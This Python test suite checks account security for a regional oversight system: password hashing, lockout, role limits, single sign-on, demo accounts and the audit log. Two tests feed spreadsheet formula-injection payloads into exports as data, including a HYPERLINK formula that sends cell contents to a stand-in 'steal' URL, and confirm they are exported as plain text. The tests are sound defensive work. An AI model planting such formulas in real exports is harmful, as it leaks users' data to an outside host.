"""Accounts in core, on SQLite and PostgreSQL: hashed passwords, lockout, disabled and demo accounts,
roles that refuse what they may not do, and the audit log."""
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from core import demo
from core.access import accounts, admin, audit, exports, roles, settings_change
from core.access.accounts import LoginFailed
from core.access.roles import AccessDenied
from core.ingest import importer
from core.store.opening import open_store


from .extract_fixture import frames

PASSWORD = "correct1horse"


@pytest.fixture
def store(store_url):
    s = open_store(store_url)
    operator = roles.system_user(s)
    admin.create_user(s, operator, "boss", "局长", "leader", None, PASSWORD)
    admin.create_user(s, operator, "jinan", "济南经办", "city_officer", "370100", PASSWORD)
    admin.create_user(s, operator, "lixia", "历下经办", "county_officer", "370102", PASSWORD)
    admin.create_user(s, operator, "root", "管理员", "admin", None, PASSWORD)
    return s


def _log(store, action=None):
    rows = store.read("SELECT username, action, outcome, target FROM audit_log ORDER BY audit_id")
    return rows if action is None else rows[rows["action"] == action]


def test_passwords_are_salted_slow_hashes(store):
    hashes = store.read("SELECT username, password_hash FROM users ORDER BY username")
    assert all(h.startswith("$argon2id$") for h in hashes["password_hash"])
    assert hashes["password_hash"].nunique() == len(hashes)  # same password, different salts
    assert PASSWORD not in "".join(hashes["password_hash"])
    with pytest.raises(ValueError):
        admin.create_user(store, roles.system_user(store), "weak", "弱", "leader", None, "short1")
    with pytest.raises(ValueError):
        admin.create_user(store, roles.system_user(store), "letters", "弱", "leader", None, "onlyletterslong")


def test_production_hashes_at_full_cost_and_the_suite_cheaply_with_hashes_that_verify():
    """Without VBP_PASSWORD_HASH core hashes at argon2-cffi's defaults (64 MiB, 3 passes, 4 lanes); the suite sets
    VBP_PASSWORD_HASH=fast (tests/conftest.py) and its hashes, of the cheapest parameters, verify as any other."""
    import os
    import subprocess
    import sys

    import argon2
    from core.paths import ROOT
    env = {k: v for k, v in os.environ.items() if k != accounts.HASH_ENV}
    made = subprocess.run([sys.executable, "-c", "from core.access import accounts; import sys; "
                           "print(accounts._dummy.cache_info().currsize); "
                           "print(accounts.hash_password(sys.argv[1])); print(accounts._dummy())", PASSWORD],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=120, check=True).stdout.split()
    assert made.pop(0) == "0"  # importing hashes nothing (every command and job process imports it)
    production = argon2.Parameters(type=argon2.Type.ID, version=19, salt_len=16, hash_len=32, time_cost=3,
                                   memory_cost=65536, parallelism=4)
    assert [argon2.extract_parameters(h) for h in made] == [production, production]  # the stand-in too: the same work
    assert os.environ[accounts.HASH_ENV] == "fast"
    cheap = accounts.hash_password(PASSWORD)
    assert argon2.extract_parameters(cheap).memory_cost < production.memory_cost
    assert argon2.extract_parameters(accounts._dummy()) == argon2.extract_parameters(cheap)
    for h in (cheap, made[0]):  # each kind verifies here, and refuses a wrong password
        assert h.startswith("$argon2id$") and accounts._verify(h, PASSWORD) and not accounts._verify(h, PASSWORD + "x")
    assert cheap != accounts.hash_password(PASSWORD)  # salted


def test_sign_in_and_scope(store):
    user = accounts.authenticate(store, "jinan", PASSWORD)
    assert (user.role, user.scope) == ("city_officer", "370100") and user.can("record") and not user.can("upload")
    assert accounts.authenticate(store, "boss", PASSWORD).scope == "370000"
    assert accounts.authenticate(store, "lixia", PASSWORD).scope == "370102"
    assert _log(store, "login")["outcome"].tolist() == ["ok", "ok", "ok"]


def test_unknown_wrong_and_locked_answer_alike(store, monkeypatch):
    """In words and in work: each checks one password hash and runs the one counting statement."""
    checks = []
    real = accounts._verify
    monkeypatch.setattr(accounts, "_verify", lambda h, p: checks.append(h) or real(h, p))
    now = dt.datetime(2026, 11, 23, 9, 0)
    with store.begin() as conn:  # lixia is locked for another 10 minutes
        conn.execute(sa.text("UPDATE users SET locked_until = :t WHERE username = 'lixia'"),
                     {"t": now + dt.timedelta(minutes=10)})
    answers = {}
    for name, password in (("jinan", "nope"), ("nobody", "nope"), ("lixia", PASSWORD)):  # wrong, unknown, locked
        with pytest.raises(LoginFailed) as err:
            accounts.authenticate(store, name, password, now=now)
        answers[name] = str(err.value)
    assert len(set(answers.values())) == 1 and "密码错误" in answers["jinan"] and "wrong" in answers["jinan"]
    assert len(checks) == 3  # one password hash checked each time, a real one or the stand-in
    log = _log(store, "login")[["username", "outcome"]].values.tolist()
    assert log[0] == ["jinan", "failed:wrong"] and log[2] == ["lixia", "failed:locked"]
    assert log[1][1] == "failed:unknown" and log[1][0].startswith("unknown:") and "nobody" not in log[1][0]


def test_a_password_typed_as_the_user_name_is_not_kept(store):
    with pytest.raises(LoginFailed):
        accounts.authenticate(store, PASSWORD, "")  # typed into the wrong field
    assert PASSWORD not in " ".join(map(str, store.read("SELECT * FROM audit_log").values.ravel()))


def test_lockout_after_repeated_failures(store):
    now = dt.datetime(2026, 11, 23, 9, 0)
    for _ in range(5):  # the fifth failure locks (login_max_failures = 5)
        with pytest.raises(LoginFailed) as err:
            accounts.authenticate(store, "jinan", "nope", now=now)
        assert err.value.reason == "denied"
    assert store.read("SELECT locked_until FROM users WHERE username = 'jinan'")["locked_until"].notna().all()
    with pytest.raises(LoginFailed) as err:  # locked: even the right password is refused, in the same words
        accounts.authenticate(store, "jinan", PASSWORD, now=now + dt.timedelta(minutes=14))
    assert err.value.reason == "denied"
    user = accounts.authenticate(store, "jinan", PASSWORD, now=now + dt.timedelta(minutes=15))  # lock over
    assert user.username == "jinan"
    assert len(_log(store, "account_locked")) == 1


def test_tries_at_the_same_moment_all_count(store):
    """20 wrong passwords sent at once (as from many browsers) lock the account: the store counts each failure."""
    from concurrent.futures import ThreadPoolExecutor
    now = dt.datetime(2026, 11, 23, 9, 0)

    def attempt(_):
        try:
            accounts.authenticate(store, "jinan", "wrong-guess-1", now=now)
        except LoginFailed:
            return "refused"
        return "signed in"
    with ThreadPoolExecutor(max_workers=20) as pool:
        answers = list(pool.map(attempt, range(20)))
    assert answers == ["refused"] * 20
    row = store.read("SELECT failed_logins, locked_until FROM users WHERE username = 'jinan'").iloc[0]
    assert pd.notna(row["locked_until"])
    with pytest.raises(LoginFailed):  # and the right password is refused while the lock lasts
        accounts.authenticate(store, "jinan", PASSWORD, now=now + dt.timedelta(minutes=1))
    failed = _log(store, "login")["outcome"].value_counts()
    assert failed.get("failed:wrong", 0) >= 5 and failed.get("failed:wrong", 0) + failed.get("failed:locked", 0) == 21


def test_disabled_account_and_reset(store):
    root = accounts.authenticate(store, "root", PASSWORD)
    admin.set_active(store, root, "jinan", False)
    with pytest.raises(LoginFailed) as err:
        accounts.authenticate(store, "jinan", PASSWORD)
    assert err.value.reason == "disabled"
    assert accounts.load(store, "jinan") is None  # a live session of it ends at its next page
    admin.set_active(store, root, "jinan", True)
    admin.reset_password(store, root, "jinan", "another2horse")
    with pytest.raises(LoginFailed):
        accounts.authenticate(store, "jinan", PASSWORD)
    assert accounts.authenticate(store, "jinan", "another2horse").username == "jinan"
    with pytest.raises(AccessDenied):
        admin.set_active(store, root, "root", False)  # not oneself
    assert set(_log(store)["action"]) >= {"account_disabled", "account_enabled", "password_reset"}


def test_roles_need_the_right_area(store):
    operator = roles.system_user(store)
    with pytest.raises(ValueError):
        admin.create_user(store, operator, "x1", "x", "city_officer", "370102", PASSWORD)  # a county, not a city
    with pytest.raises(ValueError):
        admin.create_user(store, operator, "x2", "x", "county_officer", None, PASSWORD)
    with pytest.raises(ValueError):
        admin.create_user(store, operator, "jinan", "x", "leader", None, PASSWORD)  # taken
    admin.set_role(store, operator, "lixia", "county_officer", "370103")
    assert accounts.load(store, "lixia").scope == "370103"


def test_officers_cannot_upload_administer_or_change_settings(store, tmp_path):
    officer = accounts.authenticate(store, "jinan", PASSWORD)
    leader = accounts.authenticate(store, "boss", PASSWORD)
    path = tmp_path / "x.xlsx"
    from core.ingest import exporter
    exporter.write_xlsx(frames(), path)
    for who in (officer, leader):
        with pytest.raises(AccessDenied):
            importer.import_files(store, [path], actor=who)
        with pytest.raises(AccessDenied):
            importer.write(store, importer.parse([path], store), who)
        with pytest.raises(AccessDenied):
            admin.create_user(store, who, "sneaky", "x", "admin", None, PASSWORD)
        with pytest.raises(AccessDenied):
            admin.reset_password(store, who, "root", "taken0ver1")
        with pytest.raises(AccessDenied):
            admin.users(store, who)
        with pytest.raises(AccessDenied):
            settings_change.change(store, who, "delivery_rate_warning", "0.5")
        with pytest.raises(AccessDenied):
            audit.entries(store, who)
    assert store.counts()["orders"] == 0 and accounts.load(store, "sneaky") is None
    assert store.settings()["delivery_rate_warning"] == 0.8


def test_admin_changes_settings_and_the_figures_follow(store):
    root = accounts.authenticate(store, "root", PASSWORD)
    before = store.meta("data_version", "0")
    settings_change.change(store, root, "delivery_rate_warning", "0.85")
    assert store.settings()["delivery_rate_warning"] == 0.85 and store.meta("data_version") != before
    with pytest.raises(ValueError):
        settings_change.change(store, root, "delivery_rate_warning", "eighty")
    with pytest.raises(ValueError):
        settings_change.change(store, root, "province_code", "320000")
    changed = _log(store, "setting_changed")
    assert changed[["username", "target"]].values.tolist() == [["root", "delivery_rate_warning"]]


def test_audit_log_is_for_admins_and_exports(store):
    root = accounts.authenticate(store, "root", PASSWORD)
    with pytest.raises(LoginFailed):
        accounts.authenticate(store, "boss", "nope")
    entries = audit.readable(audit.entries(store, root, since=dt.date.today()), store.regions())
    assert {"login", "account_created"} <= set(entries["action"])
    assert entries["at"].is_monotonic_decreasing
    data = exports.table(store, root, "审计日志", entries, {"username": "用户", "action_name": "操作", "outcome": "结果"})
    sheet = list(openpyxl.load_workbook(io.BytesIO(data))["审计日志"].values)
    assert sheet[0] == ("用户", "操作", "结果") and len(sheet) == len(entries) + 1
    assert ("root", "export") in set(zip(_log(store)["username"], _log(store)["action"]))


def test_a_formula_in_a_name_is_exported_as_text(store):
    officer = accounts.authenticate(store, "jinan", PASSWORD)
    names = ["=HYPERLINK(\"http://example.invalid\",\"点我\")", "+1+1", "-2", "@SUM(A1)", "\t=1", "普通医院"]
    import pandas as pd
    data = exports.table(store, officer, "机构", pd.DataFrame({"name": names}), {"name": "名称"})
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = wb["机构"]["A"][1:]
    assert [c.value for c in cells] == names and all(c.data_type == "s" for c in cells)
    info = dict(list(wb["说明"].values)[1:])
    assert info["导出人"] == "济南经办（jinan）" and info["数据范围"] == "济南市" and info["导出时间"]


def test_demo_accounts_exist_only_in_a_demo_store(demo_copy, tmp_path):
    s = demo_copy
    made = s.read("SELECT username, role, area_code, is_demo FROM users ORDER BY username")
    assert made["username"].tolist() == ["demo_admin", "demo_analyst", "demo_city", "demo_county", "demo_enterprise",
                                         "demo_institution", "demo_leader"]
    assert made["is_demo"].astype(bool).all()
    mine = accounts.authenticate(s, "demo_institution", demo.DEMO_PASSWORD)  # an institution of the county officer's
    assert s.read("SELECT county_code FROM institutions WHERE institution_code = :c",
                  {"c": mine.entity})["county_code"].iloc[0] == made.set_index("username").loc["demo_county", "area_code"]
    city = accounts.authenticate(s, "demo_city", demo.DEMO_PASSWORD)
    county = accounts.authenticate(s, "demo_county", demo.DEMO_PASSWORD)
    assert county.scope[:4] == city.scope[:4] and city.scope.endswith("00") and not county.scope.endswith("00")
    analyst = accounts.authenticate(s, "demo_analyst", demo.DEMO_PASSWORD)
    path = tmp_path / "real.xlsx"
    from core.ingest import exporter
    exporter.write_xlsx(frames(), path)
    from core.access import notices
    notices.generate(s, city, "2026Q3")  # a notification drafted on the demo, and its red flags' first times
    assert s.read("SELECT COUNT(*) AS n FROM red_flags_since")["n"].iloc[0] > 0
    before = s.counts()
    with pytest.raises(importer.DemoInTheWay):  # real data never lands beside the demo unasked
        importer.import_files(s, [path], actor=analyst)
    assert s.counts() == before and s.holds_demo()
    extract, counts = importer.import_files(s, [path], actor=analyst, clear_demo=True)  # real data arrives
    assert counts["orders"] == 2
    assert s.counts() == {name: len(frame) for name, frame in extract.frames.items()}  # the real rows alone
    assert not s.holds_demo() and s.read("SELECT COUNT(*) AS n FROM demo_manifest")["n"].iloc[0] == 0
    for table in ("notices", "actions"):  # nothing of the demo's casework stays
        assert s.read(f"SELECT COUNT(*) AS n FROM {table}")["n"].iloc[0] == 0, table
    red = set(s.read("SELECT institution_code FROM red_flags_since")["institution_code"])  # the real data's own only
    assert red <= set(extract.frames["institutions"]["institution_code"])
    for name in made["username"]:
        with pytest.raises(LoginFailed):
            accounts.authenticate(s, name, demo.DEMO_PASSWORD)
        assert accounts.load(s, name) is None
    assert s.read("SELECT COUNT(*) AS n FROM users")["n"].iloc[0] == 0 and accounts.demo_closed(s)
    demo.demo_accounts(s) if not accounts.demo_closed(s) else None
    assert s.read("SELECT COUNT(*) AS n FROM users")["n"].iloc[0] == 0


def test_single_sign_on_maps_to_a_local_account(store):
    root = accounts.authenticate(store, "root", PASSWORD)
    with pytest.raises(LoginFailed) as err:
        accounts.sso_user(store, "zhang@ybj.example")
    assert err.value.reason == "no_account"
    admin.link_sso(store, root, "jinan", "zhang@ybj.example")
    user = accounts.sso_user(store, "zhang@ybj.example")
    assert (user.username, user.scope) == ("jinan", "370100")
    admin.set_active(store, root, "jinan", False)
    with pytest.raises(LoginFailed) as err:
        accounts.sso_user(store, "zhang@ybj.example")
    assert err.value.reason == "disabled"
    assert _log(store, "login")["outcome"].tolist()[-3:] == ["failed:no_account", "ok", "failed:disabled"]


def test_the_first_admin_is_made_at_the_command_line(tmp_path):
    import subprocess
    import sys
    from core.paths import ROOT
    url = f"sqlite:///{tmp_path / 'cli.sqlite3'}"

    def cli(*args, stdin=""):
        return subprocess.run([sys.executable, "-m", "core", "users", *args, "--db", url], cwd=ROOT, input=stdin,
                              capture_output=True, text=True, timeout=300)
    assert cli("add", "admin", "--role", "admin", "--password-stdin", stdin="first2admin\n").returncode == 0
    weak = cli("add", "weak", "--role", "admin", "--password-stdin", stdin="short\n")
    assert weak.returncode == 2 and "至少 10 位" in weak.stderr
    officer = cli("add", "jinan", "--role", "city_officer", "--area", "370100", "--password-stdin", stdin="jinan2026ok\n")
    assert officer.returncode == 0
    assert cli("disable", "jinan").returncode == 0
    listed = cli("list", "--format", "csv").stdout
    assert "admin,admin,admin" in listed and "jinan,jinan,city_officer,370100,False" in listed
    assert cli("add", "nobody").returncode == 2  # no role
    s = open_store(url)
    assert accounts.authenticate(s, "admin", "first2admin").role == "admin"
    log = s.read("SELECT username, action, target FROM audit_log WHERE action LIKE 'account%'")
    assert {(a, t) for _, a, t in log.itertuples(index=False)} == {("account_created", "admin"),
                                                                   ("account_created", "jinan"),
                                                                   ("account_disabled", "jinan")}
    assert log["username"].str.startswith("cli:").all()


def test_an_institution_named_like_a_formula_is_exported_as_text(demo_copy):
    from core.access import actions
    from core.read import interviews
    from core.refresh import marts
    from core.store import views
    from core.store.view import View
    leader = accounts.authenticate(demo_copy, "demo_leader", demo.DEMO_PASSWORD)
    view = View.of(demo_copy, views.default_view(demo_copy))
    code = interviews.interview_list(view).query("subject_type == 'institution'")["subject_code"].iloc[0]
    name = '=HYPERLINK("http://example.invalid/steal?"&A1,"点击查看")'
    with demo_copy.begin() as conn:  # as an upload could have written it
        conn.execute(sa.text("UPDATE institutions SET institution_name = :n WHERE institution_code = :c"),
                     {"n": name, "c": code})
        demo_copy.bump_data_version(conn)
    view = View.of(demo_copy, marts.ensure_view(demo_copy), user=leader)
    wb = openpyxl.load_workbook(io.BytesIO(actions.export(view)))
    cells = [row[2] for row in wb["约谈名单"].iter_rows(min_row=2) if row[1].value == code]
    assert len(cells) == 1 and cells[0].value == name and cells[0].data_type == "s"
    evidence = [row[1] for row in wb["预警依据"].iter_rows(min_row=2) if row[0].value == code]
    assert evidence and all(c.value == name and c.data_type == "s" for c in evidence)
